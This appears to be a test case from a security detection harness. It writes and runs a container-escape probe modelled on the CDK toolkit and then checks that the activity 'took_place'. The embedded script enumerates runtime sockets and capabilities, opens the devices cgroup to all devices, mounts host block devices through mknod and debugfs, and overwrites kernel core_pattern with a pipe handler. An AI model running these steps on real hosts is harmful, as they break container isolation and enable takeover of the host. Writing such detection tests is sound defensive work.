#!/bin/sh
. /opt/case/case.sh

cat >/tmp/cdk.sh <<'END'
grep -E 'Cap(Eff|Bnd)' /proc/1/status; cat /proc/1/cgroup /proc/self/mountinfo; ls -l /var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock /var/run/crio/crio.sock
find / -xdev -name docker.sock; ls /dev/mem /dev/kmsg /dev/sd* /dev/vd*; cat /proc/net/unix | grep -a @/containerd-shim
mkdir -p /tmp/cdk1; mount -t cgroup -o devices cgroup /tmp/cdk1 || mount -t cgroup2 none /tmp/cdk1; echo 'a *:* rwm' >/tmp/cdk1/devices.allow
for d in $(awk 'NR > 2 && $3 > 1000000 { print $1 ":" $2 }' /proc/partitions); do mknod /tmp/cdk-$d b ${d%:*} ${d#*:}; debugfs -R 'ls -l /' /tmp/cdk-$d; done
echo '|/tmp/cdk-x' >/proc/sys/kernel/core_pattern
mkdir -p /tmp/rd; mount -t debugfs none /tmp/rd && umount /tmp/rd; umount /tmp/cdk1
END
sh /tmp/cdk.sh >/tmp/cdk.out 2>/dev/null || true
grep -q Cap /tmp/cdk.out
took_place
